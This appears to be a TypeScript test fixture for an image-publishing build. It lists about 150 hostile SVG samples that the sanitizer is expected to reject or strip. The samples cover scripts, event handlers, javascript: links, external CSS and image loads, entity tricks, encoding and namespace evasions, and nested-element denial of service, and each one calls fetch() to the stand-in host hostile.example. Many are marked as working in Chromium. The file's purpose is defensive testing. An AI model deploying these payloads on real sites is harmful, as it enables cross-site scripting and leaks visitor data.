/**
 * Drawings that run code, load files or lead away from the site, or try to. The build rejects each drawing or publishes
 * only a harmless part of it. Every text that must not be published contains this host.
 */
export const HOSTILE_HOST = 'hostile.example';

export interface HostileDrawing {
  name: string;
  drawing: string | Uint8Array;
  /** The code of every finding; undefined if the build removes the danger and publishes the rest. */
  finding?: 'images/unsafe-svg' | 'images/damaged' | 'images/unknown-format';
  /**
   * Set if Chromium runs the danger when it opens the author's file and a visitor clicks: proof that the browser test
   * detects it.
   */
  works?: true;
}

const AWAY = `https://${HOSTILE_HOST}/`;
const RUN = `fetch('${AWAY}')`;
const JS = `javascript:${RUN}`;
const PAGE = 'http://www.w3.org/1999/xhtml';
const SVG = 'http://www.w3.org/2000/svg';
const XLINK = 'http://www.w3.org/1999/xlink';
const RECT = '<rect width="96" height="48"/>';

function svg(inside: string, attributes = ''): string {
  return `<svg xmlns="${SVG}" xmlns:xlink="${XLINK}" viewBox="0 0 96 48" ${attributes}>${inside}</svg>`;
}

/** Returns a drawing that is a link everywhere. */
const link = (attributes: string, inside = '') => svg(`<a ${attributes}>${RECT}${inside}</a>`);
const styled = (styles: string) => svg(`<style>${styles}</style>${RECT}`);
const drawn = (attributes: string) => svg(`<rect width="96" height="48" ${attributes}/>`);

type Row = [name: string, drawing: string | Uint8Array, works?: 'works'];

const SCRIPTS: Row[] = [
  ['a script', svg(`<script>${RUN}</script>`), 'works'],
  ['a script with a prefix', `<s:svg xmlns:s="${SVG}"><s:script>${RUN}</s:script></s:svg>`, 'works'],
  ['a script whose prefix holds a dot', svg(`<a.b:script xmlns:a.b="${SVG}">${RUN}</a.b:script>`), 'works'],
  ['a script whose prefix is no ASCII', svg(`<é:script xmlns:é="${SVG}">${RUN}</é:script>`), 'works'],
  [
    'a script whose namespace holds a reference',
    svg(`<s:script xmlns:s="http://www.w3.org/2000/&#115;vg">${RUN}</s:script>`),
    'works',
  ],
  [
    'a script between two CDATA sections',
    svg(`<style><![CDATA[ <!-- ]]></style><script>${RUN}</script><style><![CDATA[ --> ]]></style>`),
    'works',
  ],
  ['a script between two instructions', svg(`<?x <!-- ?><script>${RUN}</script><?x --> ?>`), 'works'],
  ['a script between two attributes', svg(`<g id="&lt;!--"/><script>${RUN}</script><g id="--&gt;"/>`), 'works'],
  ['a script in CDATA', svg(`<script><![CDATA[${RUN}]]></script>`), 'works'],
  ['a script without an end of its own', svg(`<script xlink:href="data:text/javascript,${RUN}"/>`), 'works'],
  ['a script in a title', svg(`<title><script>${RUN}</script></title>`), 'works'],
  ['a script in a text', svg(`<text><tspan><script>${RUN}</script></tspan></text>`), 'works'],
  ['a script in a nested drawing', svg(`<svg><defs><script>${RUN}</script></defs></svg>`), 'works'],
  ['a script that is back in the namespace', svg(`<g><x xmlns="urn:x"/><script>${RUN}</script></g>`), 'works'],
  ['a script in capitals', svg(`<SCRIPT>${RUN}</SCRIPT>`)],
  ['a script of web pages', svg(`<h:script xmlns:h="${PAGE}">${RUN}</h:script>`), 'works'],
  ['a script below another default namespace', svg(`<g xmlns="${PAGE}"><script>${RUN}</script></g>`), 'works'],
  ['a handler', svg(`<handler type="text/javascript">${RUN}</handler>`)],
  ['a listener', svg(`<s:listener xmlns:s="${SVG}" handler="${RUN}"/>`)],
  ['an event handler', svg('', `onload="${RUN}"`), 'works'],
  ['an event handler in capitals', svg('', `ONLOAD="${RUN}"`)],
  ['an event handler with references', svg('', `onload="&#102;etch('${AWAY}')"`), 'works'],
  ['an event handler with spaces around it', svg('', `onload\n =\t"${RUN}"`), 'works'],
  ['an event handler of a nested drawing', svg(`<svg onload="${RUN}"/>`), 'works'],
  ['an event handler of a picture', svg(`<image href="data:image/png,x" onerror="${RUN}"/>`), 'works'],
  ['an event handler of an animation', svg(`<set attributeName="x" to="1" onbegin="${RUN}"/>`), 'works'],
  ['an event handler for a click', drawn(`onclick="${RUN}"`), 'works'],
];

const LINKS: Row[] = [
  ['a link that runs code', link(`href="${JS}"`), 'works'],
  ['an old-style link that runs code', link(`xlink:href="${JS}"`), 'works'],
  ['a link whose prefix holds a dot', link(`xmlns:x.y="${XLINK}" x.y:href="${JS}"`), 'works'],
  ['a link with references', link(`href="&#106;avascript:${RUN}"`), 'works'],
  ['a link with a tab in its scheme', link(`href="java&#9;script:${RUN}"`), 'works'],
  ['a link with a line end in its scheme', link(`href="java&#10;script:${RUN}"`), 'works'],
  ['a link with a return in its scheme', link(`href="java&#13;script:${RUN}"`), 'works'],
  ['a link in capitals', link(`href="JavaScript:${RUN}"`), 'works'],
  ['a link after spaces', link(`href="  ${JS}"`), 'works'],
  ['two links, the first to a part of the drawing', link(`href="#a" xlink:href="${JS}"`)],
  ['two links, the second to a part of the drawing', link(`xlink:href="#a" href="${JS}"`), 'works'],
  ['a link to a data URL', link('href="data:text/html,x"')],
  ['a link to another host', link(`href="${AWAY}"`), 'works'],
  ['a link to another host without a scheme', link(`href="//${HOSTILE_HOST}/"`), 'works'],
  ['a link to a part of another file', link('href="other.html#a"'), 'works'],
  ['a link that resembles a part of the drawing', link('href="&#160;#a"'), 'works'],
  ['a base for links', link(`xml:base="${AWAY}" href="#a"`)],
  ['a link in a text', svg(`<text x="0" y="30" font-size="60"><a href="${AWAY}">MMMMMM</a></text>`), 'works'],
  ['an animated link', link('', `<animate attributeName="href" values="${JS}"/>`), 'works'],
  [
    'an animated old-style link',
    link('xlink:href="#a"', `<animate attributeName="xlink:href" values="${JS};${JS}"/>`),
    'works',
  ],
  [
    'an animated link by another prefix',
    link('xmlns:x="http://www.w3.org/1999/xlink"', `<set attributeName="x:href" to="${JS}"/>`),
    'works',
  ],
  ['a link that is set', link('href="#a"', `<set attributeName="href" to="${JS}"/>`), 'works'],
  [
    'a link that is set from elsewhere',
    svg(`<a id="b" href="#a">${RECT}</a><set href="#b" attributeName="href" to="${JS}"/>`),
    'works',
  ],
  [
    'a link that is animated from and to',
    link('', `<animate attributeName="href" from="${JS}" to="${JS}" dur="9s"/>`),
    'works',
  ],
  [
    'an event handler that is set',
    drawn('').replace('/></svg>', `><set attributeName="onclick" to="${RUN}"/></rect></svg>`),
  ],
  ['a style that is set', drawn('').replace('/></svg>', `><set attributeName="style" to="fill:red"/></rect></svg>`)],
  [
    'a picture that is set',
    svg(`<image id="b" width="9" height="9"/><set href="#b" attributeName="href" to="${AWAY}"/>`),
    'works',
  ],
  [
    'a mask that is set',
    drawn('').replace('/></svg>', `><set attributeName="mask" to="url(${AWAY}#a)"/></rect></svg>`),
    'works',
  ],
];

const LOADS: Row[] = [
  ['a picture of another host', svg(`<image width="9" height="9" href="${AWAY}"/>`), 'works'],
  ['an old-style picture of another host', svg(`<image width="9" height="9" xlink:href="${AWAY}"/>`), 'works'],
  ['a picture next to the drawing', svg(`<image width="9" height="9" href="${HOSTILE_HOST}.png"/>`), 'works'],
  ['a picture that refers to itself', svg('<image width="9" height="9" href="#a"/>')],
  [
    'a drawing in a drawing',
    svg(`<image width="9" height="9" href="data:image/svg+xml,${encodeURIComponent(svg(''))}"/>`),
  ],
  [
    'a picture in a filter',
    svg(`<filter id="a"><feImage href="${AWAY}"/></filter>${RECT.replace('/>', ' filter="url(#a)"/>')}`),
    'works',
  ],
  ['a part of another drawing', svg(`<use href="${HOSTILE_HOST}.svg#a"/>`), 'works'],
  ['a part of a drawing in a data URL', svg('<use href="data:image/svg+xml,x#a"/>')],
  ['a pattern of another drawing', svg(`<pattern id="a" href="${AWAY}#b"/>${RECT.replace('/>', ' fill="url(#a)"/>')}`)],
  ['a gradient of another drawing', svg(`<linearGradient id="a" xlink:href="${AWAY}#b"/>`)],
  ['a text along another drawing', svg(`<text><textPath href="${AWAY}#b">a</textPath></text>`)],
  [
    'a movement along another drawing',
    drawn('').replace('/></svg>', `><animateMotion><mpath href="${AWAY}#b"/></animateMotion></rect></svg>`),
  ],
  ['a filter of another drawing', drawn(`filter="url(${AWAY}#a)"`)],
  ['a mask of another drawing', drawn(`mask="url('${AWAY}#a')"`), 'works'],
  ['a clip of another drawing', drawn(`clip-path="url( ${AWAY}#a )"`), 'works'],
  ['a marker of another drawing', svg(`<path d="M0 0h9" marker-end="url(${AWAY}#a)"/>`), 'works'],
  ['a pointer of another host', drawn(`cursor="url(${AWAY}), auto"`), 'works'],
  ['a color of another drawing', drawn(`fill="url(${AWAY}#a)"`), 'works'],
  ['an escape in an attribute', drawn(`mask="\\75rl(${AWAY}#a)"`), 'works'],
  ['a reference in an attribute', drawn(`mask="ur&#108;(${AWAY}#a)"`), 'works'],
  ['a name in capitals', drawn(`mask="URL(${AWAY}#a)"`), 'works'],
  ['a style attribute', drawn(`style="mask:url(${AWAY}#a)"`), 'works'],
  ['a style attribute with an escape', drawn(`style="mask:u\\72 l(${AWAY}#a)"`), 'works'],
  ['a set of pictures', drawn(`style="mask-image:image-set('${AWAY}' 1x)"`), 'works'],
  ['an old-style set of pictures', drawn(`style="mask-image:-webkit-image-set(url(${AWAY}) 1x)"`), 'works'],
  ['a blend of pictures', drawn(`style="mask-image:-webkit-cross-fade(url(${AWAY}),url(${AWAY}),50%)"`), 'works'],
  ['a src() function', drawn(`style="mask-image:src('${AWAY}')"`)],
  ['a target in a variable', drawn(`style="--a:'${AWAY}';mask-image:image-set(var(--a) 1x)"`), 'works'],
  ['a target in a data URL', drawn('style="mask:url(data:image/svg+xml,x#a)"')],
  ['a target after a no-break space', drawn('filter="url(&#160;#a)"'), 'works'],
  ['an import', styled(`@import "${AWAY}";`), 'works'],
  ['an import by its address', styled(`@import url(${AWAY});`), 'works'],
  ['an import in capitals', styled(`@IMPORT url(${AWAY});`), 'works'],
  ['an import with an escape', styled(`@\\69mport "${AWAY}";`), 'works'],
  ['an import with a reference', styled(`&#64;import "${AWAY}";`), 'works'],
  ['an import with a comment inside', styled(`@im<!-- -->port "${AWAY}";`), 'works'],
  ['an import in two CDATA sections', styled(`<![CDATA[@im]]><![CDATA[port "${AWAY}";]]>`), 'works'],
  ['an import with an element inside', styled(`@im<g/>port "${AWAY}";`), 'works'],
  ['an import after a CSS comment', styled(`/* " */@import "${AWAY}";/* " */`), 'works'],
  ['an import after an HTML comment', styled(`&lt;!--@import "${AWAY}";`), 'works'],
  [
    'a font of another host',
    styled(`@font-face{font-family:a;src:url(${AWAY})}text{font-family:a}`).replace(
      '</svg>',
      '<text y="9">a</text></svg>',
    ),
    'works',
  ],
  ['a picture after a string with a quotation mark', styled(`a{b:"\\""}rect{mask-image:url(${AWAY})}`), 'works'],
  ['a picture after an unclosed string', styled(`a{b:"\n}rect{mask-image:url(${AWAY})}`), 'works'],
  ['a namespace in styles', styled(`@namespace url(${AWAY});`)],
  ['styles of web pages', svg(`<h:style xmlns:h="${PAGE}">@import "${AWAY}";</h:style>`), 'works'],
  ['a link to styles', svg(`<h:link xmlns:h="${PAGE}" rel="stylesheet" href="${AWAY}"/>`), 'works'],
  ['a style sheet for XML', `<?xml-stylesheet href="${AWAY}"?>${svg('')}`, 'works'],
  ['a transformation', `<?xml-stylesheet type="text/xsl" href="data:text/xml,x"?>${svg('')}`],
];

const NO_DRAWINGS: Row[] = [
  ['a page refresh', svg(`<h:meta xmlns:h="${PAGE}" http-equiv="refresh" content="0;url=${AWAY}"/>`), 'works'],
  ['a picture of web pages', svg(`<img xmlns="${PAGE}" src="${AWAY}"/>`), 'works'],
  ['a frame of web pages', svg(`<h:iframe xmlns:h="${PAGE}" src="${AWAY}"/>`), 'works'],
  ['a frame', svg(`<iframe src="${AWAY}"/>`)],
  ['a foreign object', svg(`<foreignObject width="9" height="9"><b xmlns="${PAGE}">Text</b></foreignObject>`)],
  [
    'a foreign object with a script',
    svg(`<switch><s:foreignObject xmlns:s="${SVG}"><script xmlns="${PAGE}">${RUN}</script></s:foreignObject></switch>`),
    'works',
  ],
  ['an object', svg(`<h:object xmlns:h="${PAGE}" data="${AWAY}"/>`)],
  ['a video', svg(`<video xmlns="${PAGE}" src="${AWAY}"/>`), 'works'],
  ['a sound', svg(`<audio href="${AWAY}"/>`)],
  ['an entity', `<!DOCTYPE svg [<!ENTITY a "<script>${RUN}</script>">]>${svg('&a;')}`, 'works'],
  ['an attribute by default', `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "${RUN}">]>${svg('')}`, 'works'],
  [
    'a document type of another host with declarations',
    `<!DOCTYPE svg SYSTEM "${AWAY}" [<!ENTITY % a SYSTEM "${AWAY}">%a;]>${svg('')}`,
  ],
  [
    'entities of entities',
    `<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>${svg('<title>&b;&b;</title>')}`,
  ],
  ['a hundred thousand nested groups', svg('<g>'.repeat(1e5) + '</g>'.repeat(1e5))],
];

/** Browsers reject these drawings too, or must guess. */
const DAMAGED: Row[] = [
  ['two attributes of one name', svg('', `id="a" id="b"`)],
  ['two attributes of one name by two prefixes', svg('', `xmlns:a="${XLINK}" a:href="#a" xlink:href="${JS}"`)],
  ['an undeclared prefix', svg(`<x:script>${RUN}</x:script>`)],
  ['an attribute without quotation marks', svg('', 'id=a')],
  ['an element without an end', svg('<g>')],
  ['a second root', `${svg('')}<script xmlns="${SVG}">${RUN}</script>`],
  ['a text after the root', `${svg('')}${RUN}`],
  ['an entity of web pages', svg('<title>&nbsp;</title>')],
  ['a control character', svg('<title>\u0001</title>')],
  ['a control character by another version', `<?xml version="1.1"?>${svg('<title>&#1;</title>')}`],
  ['half an instruction', `<?x ${svg('')}`],
  ['a hundred thousand start tags', '<svg '.repeat(1e5)],
  ['a name with two colons', svg('<a:b:script/>')],
  ['UTF-16 text', Buffer.from(svg(`<script>${RUN}</script>`), 'utf16le')],
];

const NO_SVG: Row[] = [
  [
    'an encoding with escapes',
    `<?xml version="1.0" encoding="ISO-2022-JP"?>${svg(`<s\u001b(Bcript>${RUN}</s\u001b(Bcript>`)}`,
    'works',
  ],
  ['another encoding', `<?xml version="1.0" encoding="windows-1252"?>${svg('')}`],
  ['an encoding of seven bits', `<?xml version="1.0" encoding="UTF-7"?>${svg('+ADw-script+AD4-')}`],
  ['bytes that are not UTF-8', Buffer.from(svg('<title>é</title>'), 'latin1')],
  ['a web page', `<html xmlns="${PAGE}"><script>${RUN}</script></html>`, 'works'],
  ['a drawing without its namespace', `<svg viewBox="0 0 1 1"><script>${RUN}</script></svg>`],
  ['a drawing in the namespace of web pages', `<svg xmlns="${PAGE}"><script>${RUN}</script></svg>`, 'works'],
  ['another root', `<g xmlns="${SVG}"><script>${RUN}</script></g>`, 'works'],
];

/** The build removes the danger and all notes of drawing editors. */
const LEFT_OUT: Row[] = [
  ['a script among the notes of an editor', svg(`<metadata><script>${RUN}</script></metadata>${RECT}`), 'works'],
  ['a script in an unknown element', svg(`<x xmlns="urn:x"><script xmlns="${SVG}">${RUN}</script></x>`), 'works'],
  ['a script of another namespace', svg(`<script xmlns="urn:x">${RUN}</script>`)],
  ['a script in a comment', svg(`<!-- <script>${RUN}</script> -->`)],
  ['a script in a CDATA section', svg(`<title><![CDATA[<script>]]></title>`)],
  ['a script in an instruction', svg(`<?x <script>${RUN}</script> ?>`)],
  ['a script in the document type', `<!DOCTYPE svg PUBLIC "<script>" "${AWAY}">${svg('')}`],
  ['a handler of another namespace', svg('', `xmlns:x="urn:x" x:onload="${RUN}"`)],
  ['a link attribute on another element', svg(`<g href="${JS}">${RECT}</g>`)],
  ['a link of web pages', link(`xmlns:h="${PAGE}" h:href="${JS}"`)],
  ['a ping address of a click', link(`href="#a" ping="${AWAY}"`), 'works'],
  ['a font of SVG', svg(`<font-face><font-face-src><font-face-uri xlink:href="${AWAY}"/></font-face-src></font-face>`)],
  ['a pointer of SVG', svg(`<cursor xlink:href="${AWAY}"/>`)],
  ['a text of another file', svg(`<text><tref xlink:href="${AWAY}#a"/></text>`)],
  ['styles of another namespace', svg(`<style xmlns="urn:x">@import "${AWAY}";</style>`)],
  ['a formula', svg(`<math xmlns="http://www.w3.org/1998/Math/MathML" href="${JS}"><mtext>a</mtext></math>`)],
  ['an empty link', link('href=""')],
];

function rows(all: readonly Row[], finding?: HostileDrawing['finding']): HostileDrawing[] {
  return all.map(([name, drawing, works]) => ({
    name,
    drawing,
    ...(finding && { finding }),
    ...(works && { works: true }),
  }));
}

export const HOSTILE: readonly HostileDrawing[] = [
  ...rows([...SCRIPTS, ...LINKS, ...LOADS, ...NO_DRAWINGS], 'images/unsafe-svg'),
  ...rows(DAMAGED, 'images/damaged'),
  ...rows(NO_SVG, 'images/unknown-format'),
  ...rows(LEFT_OUT),
];
